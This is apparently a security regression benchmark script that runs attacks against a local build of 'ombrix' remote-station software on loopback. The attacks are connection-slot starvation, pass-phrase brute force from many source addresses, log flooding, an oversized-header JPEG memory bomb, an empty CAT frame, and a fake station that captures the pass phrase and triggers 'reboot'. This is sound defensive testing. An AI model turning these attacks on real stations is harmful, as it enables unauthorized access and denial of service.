#!/usr/bin/env python3
"""The unit link's attacks, measured against a build of ombrix on loopback.

Each attack runs against fresh simulated units and prints one figure, so two
builds (one before a change, one after) can be compared:

  silent   two peers that connect, say nothing and reconnect when closed:
           how long the real operator unit takes to reach the station
  guess    pass phrases from many source addresses (127.1.x.y) for 15 s (or
           --guess-seconds), guess1 the same from one address:
           how many the station compared, and how long a known owner's
           operator unit took to get in meanwhile
  log      one peer's handshakes and near-miss pass phrases for 6 s: bytes of
           log a second, and whether a near miss is logged
  jpeg     after the pass phrase, a 16 x 16 JPEG whose header says 4096 x 4096:
           the station's peak memory before and after
  emptyca  after the pass phrase, an empty CA frame: does the CAT link stop
  fake     a plain fake station: does the operator unit (RemoteTls: 1 in its
           remote.txt) send it the pass phrase, and run "reboot" on its KIVORB

  bench/remote_link_attacks.py [--build DIR] [--ombrix PATH] [ATTACK ...]
"""
import argparse
import base64
import hashlib
import ctypes
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

PASSWORD = "station-pass-7"
KEY = "x3JJHMbDL1EzLkh9GBhXDw=="
REQUEST = ("GET /chat HTTP/1.1\r\nHost: 127.0.0.1:0\r\nUpgrade: websocket\r\n"
           "Connection: keep-alive, Upgrade\r\nSec-WebSocket-Key: " + KEY +
           "\r\nSec-WebSocket-Version: 13\r\n\r\n\r\n").encode()


def text_frame(payload):
    return bytes([0x81, len(payload), 0, 0, 0, 0]) + payload


def short_frame(kind, data):
    return bytes([0x82, len(data) + 2]) + kind + data


def chunk_frame(kind, obj, offset):
    part = obj[offset:offset + 512].ljust(512, b"\0")
    return bytes([0x82, 126, 0x02, 0x0a]) + kind + struct.pack(">II", len(obj), offset) + part


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


class Log:
    """A process's output lines as they come."""

    def __init__(self, proc):
        self.lines = []
        self.lock = threading.Lock()
        self.proc = proc
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        for raw in self.proc.stdout:
            with self.lock:
                self.lines.append(raw.decode("utf-8", "replace").rstrip("\n"))

    def size(self):
        with self.lock:
            return len(self.lines)

    def since(self, mark):
        with self.lock:
            return self.lines[mark:]

    def wait(self, text, seconds, mark=0):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            with self.lock:
                for i in range(mark, len(self.lines)):
                    if text in self.lines[i]:
                        return i
            time.sleep(0.05)
        return -1


class Unit:
    """A root with its simulated devices and its ombrix."""

    def __init__(self, args, role, port, remote="", cat=False, display=False, extra_files=None):
        self.args = args
        self.root = tempfile.mkdtemp(prefix="ombrix-attack-")
        self.procs = []
        subprocess.run([f"{args.build}/sim/ombrix-sim", "--prepare", "--mode", "gen", "--root",
                        self.root], check=True, stdout=subprocess.DEVNULL)
        setup = ("EnableKeyb: 0\nEnableGPIO: 0\nEnableRead: 0\nEnableWrite: 0\nEnableFFT: 0\n"
                 "EnableLinear: 1\nEnableTime: 1\nLinPort: /dev/ttyAMA0\nSerPort: /dev/ttyUSB1\n"
                 f"NumBanco: 1\nServer: 127.0.0.1\nWebSocket: {role}\nTcpPort: {port}\n"
                 f"EnableCAT: {1 if cat else 0}\n")
        self.write("/opt/set/setup.txt", setup)
        self.write("/opt/set/antenna_b1.txt",
                   "!Neb\n40m 7000000 7300000 1 2 0 0 0.0\n20m 14000000 14350000 1 1 0 0 0.0\n")
        self.write("/opt/set/remote.txt", f"Password: {PASSWORD}\n" + remote)
        for path, text in (extra_files or {}).items():
            self.write(path, text)
        if display:
            self.write("/dev/fb0", "\0" * (800 * 480 * 4))
        self.ctl = self.spawn([f"{args.build}/sim/ombrix-sim-controller", "--root", self.root])
        self.ctl.wait("pty ", 5)
        self.neb = None
        if cat:
            self.neb = self.spawn([f"{args.build}/sim/ombrix-sim-neb", "--root", self.root,
                                   "freq 14074000"])
            self.neb.wait("pty ", 5)
        self.app = None

    def write(self, path, text):
        with open(self.root + path, "w", encoding="latin-1") as f:
            f.write(text)

    def read(self, path):
        try:
            with open(self.root + path, encoding="latin-1") as f:
                return f.read()
        except OSError:
            return ""

    def spawn(self, argv, env=None):
        proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT, env=env)
        self.procs.append(proc)
        log = Log(proc)
        log.pid = proc.pid
        return log

    def start(self):
        env = dict(os.environ, OMBRIX_ROOT=self.root,
                   ALSA_CONFIG_PATH=self.root + "/etc/asound.conf")
        self.app = self.spawn([self.args.ombrix], env)
        return self.app

    def close(self):
        for p in reversed(self.procs):
            p.terminate()
        for p in reversed(self.procs):
            try:
                p.wait(40)
            except subprocess.TimeoutExpired:
                p.kill()
        shutil.rmtree(self.root, ignore_errors=True)


def connect(port, source=None, timeout=3):
    s = socket.socket()
    s.settimeout(timeout)
    if source:
        s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    return s


def recv_until(s, text, seconds):
    got = b""
    end = time.monotonic() + seconds
    while text not in got and time.monotonic() < end:
        try:
            s.settimeout(max(0.01, end - time.monotonic()))
            b = s.recv(4096)
        except OSError:
            break
        if not b:
            break
        got += b
    return got


def wait_closed(s, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            s.settimeout(max(0.01, end - time.monotonic()))
            if not s.recv(4096):
                return True
        except socket.timeout:
            return False
        except OSError:
            return True
    return False


def peak_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    return -1


def station(args, **kw):
    port = free_port()
    unit = Unit(args, 1, port, **kw)
    app = unit.start()
    if app.wait("Listening on port", 60) < 0:
        sys.exit("station did not listen")
    return unit, port


def authenticated_peer(port, app):
    s = connect(port, timeout=10)
    s.sendall(REQUEST)
    recv_until(s, b"chat\r\n\r\n", 10)
    s.sendall(text_frame(PASSWORD.encode()))
    if app.wait("Receiving data", 10) < 0:
        sys.exit("not authenticated")
    return s


def settle(s, app, n):
    t = f"KIVOFD{n}".encode()
    s.sendall(short_frame(b"ST", t))
    app.wait("BUFFER Wsocket : " + t.decode(), 10)


def attack_silent(args):
    unit, port = station(args)
    stop = threading.Event()

    def silent():
        while not stop.is_set():
            try:
                s = connect(port, timeout=1)
            except OSError:
                continue
            while not stop.is_set() and not wait_closed(s, 0.2):
                pass
            s.close()

    threads = [threading.Thread(target=silent, daemon=True) for _ in range(2)]
    for t in threads:
        t.start()
    op = Unit(args, 2, port)
    opapp = op.start()
    opapp.wait("Wclient to server", 60)
    t0 = time.monotonic()
    ok = unit.app.wait("Receiving data", args.silent_limit) >= 0
    took = time.monotonic() - t0
    stop.set()
    print(f"silent: operator {'in after %.1f s' % took if ok else 'still out after %.0f s' % took}"
          " with two silent reconnecting peers")
    op.close()
    unit.close()


def attack_guess1(args):
    attack_guess(args, one_address=True)


def attack_guess(args, one_address=False):
    unit, port = station(args, extra_files={
        "/opt/set/remote-peers.txt": f"127.0.0.1 {int(time.time()) - 2 * 86400}\n"})
    mark = unit.app.size()
    stop = threading.Event()
    counter = [0]
    sent = [0]
    lock = threading.Lock()

    def guesser():
        while not stop.is_set():
            with lock:
                k = 0 if one_address else counter[0] % (250 * 250)
                counter[0] += 1
            try:
                s = connect(port, f"127.1.{k // 250}.{k % 250 + 1}")
                s.sendall(REQUEST)
                if b"101" not in recv_until(s, b"chat\r\n\r\n", 3):
                    s.close()
                    continue
                s.sendall(text_frame(f"guess-{k}".encode()))
                with lock:
                    sent[0] += 1
                wait_closed(s, 3)
                s.close()
            except OSError:
                pass

    t0 = time.monotonic()
    threads = [threading.Thread(target=guesser, daemon=True) for _ in range(6)]
    for t in threads:
        t.start()
    op = Unit(args, 2, port)
    opapp = op.start()
    opapp.wait("Wclient to server", 60)
    t1 = time.monotonic()
    owner = unit.app.wait("Receiving data", 30, mark) >= 0
    owner_s = time.monotonic() - t1
    while time.monotonic() - t0 < args.guess_seconds:
        time.sleep(0.1)
    stop.set()
    for t in threads:
        t.join(5)
    secs = time.monotonic() - t0
    lines = unit.app.since(mark)
    compared = sum(1 for l in lines if "pass phrase refused (" in l or "differ from >" in l)
    print(f"guess{'1' if one_address else ''}: {sent[0]} guesses from "
          f"{1 if one_address else counter[0]} address(es) in {secs:.1f} s, {compared} "
          f"compared ({compared / secs:.2f}/s); known owner "
          f"{'in after %.1f s' % owner_s if owner else 'still out after %.0f s' % owner_s}")
    op.close()
    unit.close()


def attack_log(args):
    unit, port = station(args)
    mark = unit.app.size()
    request = b"".join(b"X-Filler: " + b"f" * 60 + b"\r\n" for _ in range(40)) + REQUEST
    t0 = time.monotonic()
    tries = 0
    while time.monotonic() - t0 < 6:
        try:
            s = connect(port)
            tries += 1
            s.sendall(request)
            if b"101" in recv_until(s, b"chat\r\n\r\n", 2):
                s.sendall(text_frame(b"Secret\0more" if tries % 2 else b"Secre"))
                wait_closed(s, 2)
            s.close()
        except OSError:
            pass
    secs = time.monotonic() - t0
    lines = unit.app.since(mark)
    size = sum(len(l) + 1 for l in lines)
    near = any("Secre" in l for l in lines)
    print(f"log: {tries} connections in {secs:.1f} s: {size / secs:.0f} bytes/s of log; near miss "
          f"{'logged' if near else 'not logged'}")
    unit.close()


def tiny_jpeg():
    """A 16 x 16 grey JPEG from the system's libturbojpeg."""
    tj = ctypes.CDLL("libturbojpeg.so.0")
    tj.tjInitCompress.restype = ctypes.c_void_p
    tj.tjCompress2.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_int,
                               ctypes.c_int, ctypes.c_int,
                               ctypes.POINTER(ctypes.POINTER(ctypes.c_ubyte)),
                               ctypes.POINTER(ctypes.c_ulong), ctypes.c_int, ctypes.c_int,
                               ctypes.c_int]
    h = tj.tjInitCompress()
    pixels = (ctypes.c_ubyte * (16 * 16 * 3))(*([128] * (16 * 16 * 3)))
    out = ctypes.POINTER(ctypes.c_ubyte)()
    size = ctypes.c_ulong(0)
    if tj.tjCompress2(h, pixels, 16, 0, 16, 0, ctypes.byref(out), ctypes.byref(size), 2, 50, 0):
        sys.exit("no JPEG encoder")
    return ctypes.string_at(out, size.value)


def attack_jpeg(args):
    unit, port = station(args, display=True)
    s = authenticated_peer(port, unit.app)
    jpeg = bytearray(tiny_jpeg())
    sof = jpeg.find(b"\xff\xc0")
    jpeg[sof + 5:sof + 9] = b"\x10\x00\x10\x00"
    settle(s, unit.app, 1)
    before = peak_kib(unit.app.pid)
    for off in range(0, len(jpeg), 512):
        s.sendall(chunk_frame(b"FB", bytes(jpeg), off))
    settle(s, unit.app, 2)
    after = peak_kib(unit.app.pid)
    print(f"jpeg: peak memory {before} KiB before a 4096 x 4096 header, {after} KiB after "
          f"(+{(after - before) / 1024:.1f} MiB)")
    unit.close()


def attack_emptyca(args):
    unit, port = station(args, cat=True)
    unit.app.wait("CAT serial found", 40)
    s = authenticated_peer(port, unit.app)
    mark = unit.app.size()
    closed = False
    try:
        s.sendall(short_frame(b"CA", b""))
        settle(s, unit.app, 1)
        s.sendall(short_frame(b"CA", b"FA;"))
    except OSError:
        closed = True
    reached = unit.neb.wait("FA;", 5) >= 0
    stopped = any("err:20" in l for l in unit.app.since(mark))
    print(f"emptyca: CAT link {'stopped (error 20)' if stopped else 'running'}; connection "
          f"{'ended' if closed else 'kept'}; a CA frame after it "
          f"{'reaches' if reached else 'does not reach'} the transceiver")
    unit.close()


def attack_fake(args):
    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen(4)
    port = ls.getsockname()[1]
    got = bytearray()
    stop = threading.Event()

    def serve():
        ls.settimeout(0.2)
        while not stop.is_set():
            try:
                c, _ = ls.accept()
            except OSError:
                continue
            c.settimeout(2)
            try:
                first = c.recv(4096)
                got.extend(first)
                # The right accept value whenever the request can be read.
                m = re.search(rb"Sec-WebSocket-Key: (\S+)\r\n", first)
                key = m.group(1) if m else b"none"
                accept = base64.b64encode(hashlib.sha1(
                    key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
                c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
                          b"Connection: Upgrade\r\nSec-WebSocket-Accept: " + accept + b"\r\n"
                          b"Sec-WebSocket-Protocol: chat\r\n\r\n" + short_frame(b"ST", b"KIVORB"))
                while True:
                    more = c.recv(4096)
                    if not more:
                        break
                    got.extend(more)
            except OSError:
                pass
            c.close()

    threading.Thread(target=serve, daemon=True).start()
    op = Unit(args, 2, port, remote="RemoteTls: 1\n")
    app = op.start()
    app.wait("Wclient to server", 60)
    end = time.monotonic() + 15
    while time.monotonic() < end and "reboot" not in op.read("/sim/commands.log"):
        time.sleep(0.2)
    stop.set()
    print(f"fake: pass phrase {'received' if PASSWORD.encode() in got else 'never received'} by a "
          f"plain fake station; reboot {'run' if 'reboot' in op.read('/sim/commands.log') else 'not run'}")
    op.close()
    ls.close()


ATTACKS = {"silent": attack_silent, "guess": attack_guess, "guess1": attack_guess1,
           "log": attack_log,
           "jpeg": attack_jpeg, "emptyca": attack_emptyca, "fake": attack_fake}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--build", default="build")
    p.add_argument("--ombrix", default=None)
    p.add_argument("--silent-limit", type=float, default=150)
    p.add_argument("--guess-seconds", type=float, default=15)
    p.add_argument("attacks", nargs="*", default=list(ATTACKS))
    args = p.parse_args()
    args.ombrix = args.ombrix or f"{args.build}/ombrix"
    for name in args.attacks:
        ATTACKS[name](args)
        sys.stdout.flush()


if __name__ == "__main__":
    main()
